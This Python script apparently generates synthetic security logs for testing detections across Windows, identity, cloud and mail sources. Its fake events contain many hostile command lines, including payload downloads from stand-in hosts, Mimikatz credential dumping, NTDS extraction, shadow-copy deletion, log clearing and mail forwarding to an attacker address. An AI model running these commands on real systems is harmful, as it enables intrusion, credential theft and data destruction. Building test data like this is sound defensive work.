import json, datetime
SYSMON="Microsoft-Windows-Sysmon/Operational"
out=[]
rid=[1000]
def t(day, h, m=0, s=0):
    return f"2026-11-{day:02d}T{h:02d}:{m:02d}:{s:02d}.000000Z"
def win(ch, prov, eid, time, host, data):
    rid[0]+=1
    out.append({"Event":{"System":{"Provider":{"#attributes":{"Name":prov}},"EventID":eid,"TimeCreated":{"#attributes":{"SystemTime":time}},"EventRecordID":rid[0],"Channel":ch,"Computer":host},"EventData":data}})
def proc(time, host, image, cmd, parent, user="CORP\\alice", sha="", pid=100):
    d={"Image":image,"CommandLine":cmd,"ParentImage":parent,"ParentCommandLine":parent.split("\\")[-1],"User":user,"ProcessId":pid,"ParentProcessId":pid-1}
    if sha: d["Hashes"]=f"SHA1=00,MD5=11,SHA256={sha}"
    win(SYSMON,"Microsoft-Windows-Sysmon",1,time,host,d)
S32="C:\\Windows\\System32\\"
PS=S32+"WindowsPowerShell\\v1.0\\powershell.exe"
proc(t(27,8,1),"ws-01.corp.example",PS,"powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",S32+"cmd.exe",sha="a"*64,pid=200)
proc(t(27,8,2),"ws-01.corp.example",S32+"certutil.exe","certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe",S32+"cmd.exe",pid=210)
proc(t(27,8,3),"ws-01.corp.example","C:\\Users\\Public\\p.exe","C:\\Users\\Public\\p.exe",S32+"cmd.exe",sha="b"*64,pid=220)
proc(t(26,9,0),"ws-02.corp.example",S32+"mshta.exe","mshta.exe http://203.0.113.8/x.hta",S32+"explorer.exe",user="CORP\\bob",pid=300)
proc(t(26,9,5),"ws-02.corp.example",S32+"rundll32.exe","rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",S32+"mshta.exe",user="CORP\\bob",pid=310)
proc(t(26,9,6),"ws-02.corp.example",S32+"regsvr32.exe","regsvr32.exe /s /n /u /i:http://203.0.113.8/f.sct scrobj.dll",S32+"rundll32.exe",user="CORP\\bob",pid=320)
proc(t(25,10,0),"ws-03.corp.example",S32+"bitsadmin.exe","bitsadmin /transfer j http://203.0.113.9/a.exe C:\\Temp\\a.exe",S32+"cmd.exe",user="CORP\\carol",pid=400)
proc(t(25,10,1),"ws-03.corp.example",S32+"vssadmin.exe","vssadmin.exe delete shadows /all /quiet",S32+"cmd.exe",user="CORP\\carol",pid=410)
proc(t(25,10,2),"ws-03.corp.example",S32+"wbadmin.exe","wbadmin delete catalog -quiet",S32+"cmd.exe",user="CORP\\carol",pid=420)
proc(t(25,10,3),"ws-03.corp.example",S32+"bcdedit.exe","bcdedit /set {default} recoveryenabled No",S32+"cmd.exe",user="CORP\\carol",pid=430)
for i in range(6):
    proc(t(27,9,i),"ws-01.corp.example",S32+"cmd.exe",f"cmd.exe /c whoami & net user job{i}",S32+"explorer.exe",pid=500+i)
proc(t(27,9,30),"ws-01.corp.example",S32+"whoami.exe","whoami /all",S32+"cmd.exe",pid=600)
proc(t(27,9,31),"ws-01.corp.example",S32+"net.exe","net group \"Domain Admins\" /domain",S32+"cmd.exe",pid=601)
proc(t(27,9,32),"ws-01.corp.example",S32+"nltest.exe","nltest /dclist:corp.example",S32+"cmd.exe",pid=602)
proc(t(26,11,0),"srv-01.corp.example",S32+"schtasks.exe","schtasks /create /tn Updater /tr C:\\ProgramData\\u.exe /sc onlogon",S32+"cmd.exe",user="CORP\\svc_backup",pid=700)
proc(t(26,11,1),"srv-01.corp.example","C:\\Windows\\winword.exe","winword.exe /n report.docx",S32+"explorer.exe",user="CORP\\dave",pid=710)
proc(t(26,11,2),"srv-01.corp.example",PS,"powershell.exe -ep bypass -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')","C:\\Windows\\winword.exe",user="CORP\\dave",pid=720)
proc(t(20,11,2),"ws-09.corp.example",S32+"cmd.exe","cmd.exe /c old activity",S32+"explorer.exe",user="CORP\\erin",pid=800)
# security 4688
win("Security","Microsoft-Windows-Security-Auditing",4688,t(27,7,0),"dc-01.corp.example",{"NewProcessName":S32+"ntdsutil.exe","CommandLine":"ntdsutil \"ac i ntds\" ifm \"create full c:\\temp\" q q","ParentProcessName":S32+"cmd.exe","SubjectUserName":"admin","SubjectDomainName":"CORP","NewProcessId":"0x1f4","ProcessId":"0x1f0"})
# network
def net(time, host, image, ip, port, url=""):
    d={"Image":image,"DestinationIp":ip,"DestinationPort":port,"SourceIp":"10.0.0.5","SourcePort":50000,"Protocol":"tcp","User":"CORP\\alice"}
    if url: d["DestinationHostname"]=url
    win(SYSMON,"Microsoft-Windows-Sysmon",3,time,host,d)
net(t(27,8,2,30),"ws-01.corp.example",S32+"certutil.exe","203.0.113.7",80,"evil.example")
net(t(27,8,4),"ws-01.corp.example","C:\\Users\\Public\\p.exe","203.0.113.7",443)
net(t(27,8,5),"ws-01.corp.example","C:\\Users\\Public\\p.exe","203.0.113.7",443)
net(t(27,8,6),"ws-01.corp.example","C:\\Users\\Public\\p.exe","203.0.113.7",443)
net(t(26,9,1),"ws-02.corp.example",S32+"mshta.exe","203.0.113.8",80,"cdn.bad.example")
net(t(26,12,0),"ws-02.corp.example","C:\\Program Files\\Chrome\\chrome.exe","142.250.74.14",443,"www.google.com")
net(t(26,12,1),"ws-03.corp.example","C:\\Program Files\\Chrome\\chrome.exe","142.250.74.14",443,"www.google.com")
net(t(26,13,0),"srv-01.corp.example",PS,"203.0.113.7",80)
net(t(26,14,0),"ws-03.corp.example",S32+"svchost.exe","10.0.0.10",3389)
def dns(time, host, image, q):
    win(SYSMON,"Microsoft-Windows-Sysmon",22,time,host,{"Image":image,"QueryName":q,"QueryStatus":"0","QueryResults":"203.0.113.7"})
dns(t(27,8,2,10),"ws-01.corp.example",S32+"certutil.exe","evil.example")
dns(t(26,9,0,30),"ws-02.corp.example",S32+"mshta.exe","cdn.bad.example")
dns(t(26,12,0),"ws-02.corp.example","C:\\Program Files\\Chrome\\chrome.exe","www.google.com")
# files
def fc(time, host, image, path, eid=11):
    win(SYSMON,"Microsoft-Windows-Sysmon",eid,time,host,{"Image":image,"TargetFilename":path})
fc(t(27,8,2,45),"ws-01.corp.example",S32+"certutil.exe","C:\\Users\\Public\\p.exe")
for i in range(5):
    fc(t(25,10,5,i),"ws-03.corp.example","C:\\Temp\\a.exe",f"C:\\Users\\carol\\Documents\\file{i}.docx.locked")
fc(t(25,10,6),"ws-03.corp.example","C:\\Temp\\a.exe","C:\\Users\\carol\\Desktop\\README_RESTORE.txt")
fc(t(26,11,0,30),"srv-01.corp.example",S32+"schtasks.exe","C:\\Windows\\System32\\Tasks\\Updater")
fc(t(25,10,7),"ws-03.corp.example","C:\\Temp\\a.exe","C:\\Users\\carol\\Documents\\old.docx",eid=23)
# registry
def reg(time, host, image, key, details, eid=13, et="SetValue"):
    win(SYSMON,"Microsoft-Windows-Sysmon",eid,time,host,{"EventType":et,"Image":image,"TargetObject":key,"Details":details})
reg(t(27,8,3,30),"ws-01.corp.example","C:\\Users\\Public\\p.exe","HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater","C:\\Users\\Public\\p.exe")
reg(t(26,9,7),"ws-02.corp.example",S32+"reg.exe","HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential","DWORD (0x00000001)")
reg(t(26,9,8),"ws-02.corp.example",S32+"reg.exe","HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",None,eid=12,et="CreateKey")
# logons
def logon(time, host, eid, user, ltype, ip, status=None):
    d={"TargetUserName":user,"TargetDomainName":"CORP","LogonType":ltype,"IpAddress":ip,"IpPort":"0","WorkstationName":"KALI","ProcessName":S32+"lsass.exe"}
    if status: d["Status"]="0xc000006d"; d["SubStatus"]=status
    win("Security","Microsoft-Windows-Security-Auditing",eid,time,host,d)
for i in range(8):
    logon(t(27,6,i),"srv-01.corp.example",4625,"administrator",3,"198.51.100.66","0xc000006a")
for i,u in enumerate(["alice","bob","carol","dave","erin"]):
    logon(t(27,6,10,i),"srv-01.corp.example",4625,u,3,"198.51.100.66","0xc0000064" if u=="erin" else "0xc000006a")
logon(t(27,6,20),"srv-01.corp.example",4624,"administrator",3,"198.51.100.66")
logon(t(27,7,0),"ws-03.corp.example",4624,"carol",10,"10.0.0.44")
logon(t(26,8,0),"ws-01.corp.example",4624,"alice",2,"-")
# other windows
win("System","Service Control Manager",7045,t(26,11,3),"srv-01.corp.example",{"ServiceName":"PSEXESVC","ImagePath":"%SystemRoot%\\PSEXESVC.exe","ServiceType":"user mode service","StartType":"demand start","AccountName":"LocalSystem"})
win("Microsoft-Windows-PowerShell/Operational","Microsoft-Windows-PowerShell",4104,t(26,11,2,30),"srv-01.corp.example",{"MessageNumber":1,"MessageTotal":1,"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1'); Invoke-Mimikatz -DumpCreds","ScriptBlockId":"x","Path":""})
win("Security","Microsoft-Windows-Security-Auditing",1102,t(25,10,9),"ws-03.corp.example",{"SubjectUserName":"carol","SubjectDomainName":"CORP"})
win("Security","Microsoft-Windows-Security-Auditing",4720,t(26,11,4),"dc-01.corp.example",{"TargetUserName":"support_tmp","TargetDomainName":"CORP","SubjectUserName":"admin","SubjectDomainName":"CORP"})
# entra
def entra(time, upn, ip, code, app="Office 365 Exchange Online", country="NO", city="Oslo", reason=None):
    st={"errorCode":code}
    if reason: st["failureReason"]=reason
    out.append({"time":time,"category":"SignInLogs","resultType":str(code),"callerIpAddress":ip,"location":country,"properties":{"createdDateTime":time,"userPrincipalName":upn,"appDisplayName":app,"ipAddress":ip,"status":st,"clientAppUsed":"Browser","location":{"city":city,"countryOrRegion":country}}})
for i in range(6):
    entra(t(27,5,i),f"user{i}@corp.example","203.0.113.99",50126,reason="Invalid username or password")
entra(t(27,5,10),"user3@corp.example","203.0.113.99",0)
entra(t(27,4,0),"carol@corp.example","198.51.100.23",0)
entra(t(27,4,30),"carol@corp.example","192.0.2.200",0,country="BR",city="Sao Paulo")
entra(t(26,4,30),"dave@corp.example","198.51.100.24",500121,reason="Authentication failed during strong authentication request")
# okta
def okta(time, upn, ip, result, reason=None, et="user.session.start"):
    o={"result":result}
    if reason: o["reason"]=reason
    out.append({"uuid":f"u{len(out)}","published":time,"eventType":et,"version":"0","displayMessage":"User login to Okta","actor":{"id":"x","type":"User","alternateId":upn,"displayName":upn},"client":{"ipAddress":ip,"geographicalContext":{"country":"Netherlands"}},"outcome":o,"target":[]})
okta(t(27,3,0),"grace@corp.example","203.0.113.50","FAILURE","INVALID_CREDENTIALS")
okta(t(27,3,1),"grace@corp.example","203.0.113.50","SUCCESS")
okta(t(27,3,2),"grace@corp.example","203.0.113.50","SUCCESS",et="user.mfa.factor.deactivate")
# cloudtrail
def ct(time, name, src, user, ip, region="eu-west-1"):
    out.append({"eventVersion":"1.08","eventID":f"e{len(out)}","eventTime":time,"eventSource":src,"eventName":name,"awsRegion":region,"sourceIPAddress":ip,"userIdentity":{"type":"IAMUser","arn":f"arn:aws:iam::111122223333:user/{user}","userName":user}})
ct(t(27,2,0),"StopLogging","cloudtrail.amazonaws.com","mallory","203.0.113.66")
ct(t(27,2,1),"DeleteTrail","cloudtrail.amazonaws.com","mallory","203.0.113.66")
ct(t(27,2,2),"CreateAccessKey","iam.amazonaws.com","mallory","203.0.113.66")
ct(t(27,1,0),"ConsoleLogin","signin.amazonaws.com","ops","198.51.100.10")
ct(t(26,1,0),"GetObject","s3.amazonaws.com","ops","198.51.100.10")
# m365
def m365(time, op, user, ip, workload="Exchange", extra=None):
    r={"CreationTime":time[:19],"Id":f"m{len(out)}","Operation":op,"RecordType":1,"ResultStatus":"True","UserType":0,"Version":1,"Workload":workload,"ClientIP":ip,"ObjectId":f"obj-{op}","UserId":user}
    if extra: r.update(extra)
    out.append(r)
m365(t(27,7,40),"New-InboxRule","dave.smith@corp.example","203.0.113.77",extra={"Parameters":[{"Name":"ForwardTo","Value":"exfil@attacker.example"}]})
m365(t(27,7,41),"Send","dave.smith@corp.example","203.0.113.77",extra={"Item":{"Subject":"Invoice overdue - pay now","Recipients":"cfo@corp.example"}})
m365(t(27,7,42),"Send","dave.smith@corp.example","203.0.113.77",extra={"Item":{"Subject":"Re: invoice","Recipients":"ap@corp.example"}})
m365(t(27,7,50),"FileDownloaded","erin@corp.example","198.51.100.5",workload="SharePoint")
with open("data/events.jsonl","w") as f:
    for e in out: f.write(json.dumps(e)+"\n")
print(len(out))
